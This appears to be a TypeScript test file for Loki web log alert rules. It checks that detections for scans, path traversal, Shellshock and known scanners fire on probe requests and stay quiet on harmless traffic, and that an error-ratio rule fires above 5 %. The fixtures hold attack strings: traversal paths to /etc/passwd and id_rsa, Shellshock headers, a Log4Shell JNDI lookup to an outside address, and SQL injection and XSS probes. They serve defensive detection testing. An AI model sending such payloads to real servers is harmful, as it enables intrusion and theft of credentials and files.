import { web } from '../../../../constructs/loki/rules/web';
import { alertsOf } from '../../../../constructs/prometheus/rules';
import { parseSettings } from '../../../../constructs/settings';
import { buildTopology, isPage } from '../../../../constructs/topology';
import { describeLogRules, times, type Said } from '../../../support/log-rule-tests';

const settings = parseSettings({});
const topology = buildTopology(settings);
const group = web(settings, topology);

interface Request {
  readonly client?: string;
  readonly app?: string;
  readonly path?: string;
  readonly status?: number;
  readonly userAgent?: string;
  readonly ago?: readonly number[];
}

const asked = (request: Request): Said => {
  const { client = '10.0.0.1', app = 'nginx', path = '/', status = 200, ago = [30] } = request;
  const { userAgent = 'Mozilla/5.0 (X11; Linux x86_64)' } = request;
  return {
    job: 'access',
    labels: { namespace: 'web', app, container: app, node: 'worker' },
    metadata: {
      pod: `${app}-1`,
      method: 'GET',
      path,
      status: String(status),
      client,
      user_agent: userAgent,
      request_id: 'r',
    },
    line: JSON.stringify({ method: 'GET', path, status, client, userAgent }),
    ago,
  };
};

const missing = (client: string, count: number): Said[] =>
  Array.from({ length: count }, (_, index) =>
    asked({ client, path: `/old/${index}`, status: 404, ago: [20 + index / 10] }),
  );

/** A request of an address for each of these, which shows whom the alert is about. */
const each = (requests: readonly Request[]): { lines: Said[]; clients: string[] } => {
  const clients = requests.map((_, index) => `192.0.2.${index}`);
  return {
    lines: requests.map((row, index) => asked({ ...row, client: clients[index]! })),
    clients,
  };
};

const about = (client: string, value = 1) => ({
  labels: { namespace: 'web', app: 'nginx', client },
  value,
});

const traversals = each(
  [
    '/../../etc/hosts',
    '/static/%2e%2e/%2e%2e/secret',
    '/..%2f..%2fsecret',
    '/.%2E/%2e./x',
    '/%252e%252e%252fsecret',
    '/..%c0%afwinnt',
    '/..\\boot.ini',
    '/download?file=/etc/passwd',
    '/x?file=../../id_rsa',
    '/proc/self/environ',
  ].map((path) => ({ path, status: 400 })),
);

const shellshocks = each([
  { userAgent: '() { :;}; /bin/cat /etc/hosts' },
  { userAgent: '() { ignored; }; echo' },
  { path: '/x?y=()%20%7b%20:;%7d' },
  { path: '/%28%29+%7B' },
]);

const scanners = each([
  { userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)' },
  { userAgent: 'Mozilla/5.00 (Nikto/2.5.0)' },
  { userAgent: '${jndi:ldap://198.51.100.1/a}' },
  { path: '/.env' },
  { path: '/.git/config' },
  { path: '/wp-login.php' },
  { path: '/item?id=1+UNION+ALL+SELECT+1' },
  { path: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' },
  { path: '/?x=$%7Bjndi:dns://a%7D' },
]);

/** Requests that people, browsers and probes make. */
const harmless = [
  ...each([
    { path: '/' },
    { path: '/tic-tac-toe.js?v=1..2' },
    { path: '/environment' },
    { path: '/.well-known/security.txt' },
    { path: '/search?q=union+station+(and)+more' },
    { path: '/blog/description.html' },
    { path: '/files/a...b/' },
    { userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML)' },
    { userAgent: 'Blackbox Exporter/0.28.0' },
    { userAgent: 'kube-probe/1.34' },
    { userAgent: '' },
  ]).lines,
];

const answers = (app: string, good: number, bad: number): Said[] => [
  asked({ app, ago: times(good) }),
  asked({ app, status: 502, ago: times(bad) }),
];

describeLogRules(group, [
  {
    alert: 'WebScan',
    title: 'fires at 20 different paths that do not exist, and not at 19',
    lines: [...missing('10.0.0.20', 20), ...missing('10.0.0.19', 19)],
    fires: [about('10.0.0.20', 20)],
  },
  {
    alert: 'WebScan',
    title: 'is quiet about one broken link, pages that exist, and after 5 minutes',
    lines: [
      asked({ path: '/favicon.ico', status: 404, ago: times(99) }),
      ...Array.from({ length: 40 }, (_, index) => asked({ path: `/page/${index}` })),
      ...missing('10.0.0.2', 40).map((row) => ({ ...row, ago: row.ago.map((time) => time + 300) })),
    ],
    fires: [],
  },
  {
    alert: 'PathTraversalProbe',
    title: 'fires with the first request, however it is written',
    lines: traversals.lines,
    fires: traversals.clients.map((client) => about(client)),
  },
  {
    alert: 'PathTraversalProbe',
    title: 'is quiet about harmless requests',
    lines: harmless,
    fires: [],
  },
  {
    alert: 'ShellshockProbe',
    title: 'fires with the first request, wherever the function stands',
    lines: shellshocks.lines,
    fires: shellshocks.clients.map((client) => about(client)),
  },
  {
    alert: 'ShellshockProbe',
    title: 'is quiet about harmless requests',
    lines: harmless,
    fires: [],
  },
  {
    alert: 'ScannerProbe',
    title: 'fires with the first request of a tool, or for what only a tool asks',
    lines: scanners.lines,
    fires: scanners.clients.map((client) => about(client)),
  },
  { alert: 'ScannerProbe', title: 'is quiet about harmless requests', lines: harmless, fires: [] },
  {
    alert: 'WebErrorRatio',
    title: 'fires above 5 % of the answers of a server',
    // More of nginx: through the ruler there are the requests of all other cases too.
    lines: [
      ...answers('apache', 567, 33),
      ...answers('nginx', 300, 100),
      ...answers('sample-app', 567, 33),
    ],
    fires: [
      { labels: { namespace: 'web', app: 'apache' }, value: 5.5 },
      { labels: { namespace: 'web', app: 'nginx' }, value: 25 },
      { labels: { namespace: 'web', app: 'sample-app' }, value: 5.5 },
    ],
  },
  {
    alert: 'WebErrorRatio',
    title: 'is quiet below 5 %, and about less than an error in 10 s',
    lines: [
      ...answers('apache', 761, 39),
      ...answers('nginx', 5, 29),
      ...answers('sample-app', 761, 39),
    ],
    fires: [],
  },
]);

test('each web server of the topology has a rule about its errors, with its own category', () => {
  const rules = alertsOf(group).filter(({ alert }) => alert === 'WebErrorRatio');

  expect(rules.map(({ labels }) => [labels.service, labels.category])).toEqual(
    topology.components
      .filter(isPage)
      .map(({ name }) => [name, name === 'sample-app' ? 'log' : name]),
  );
  expect(rules.length).toBeGreaterThan(2);
});
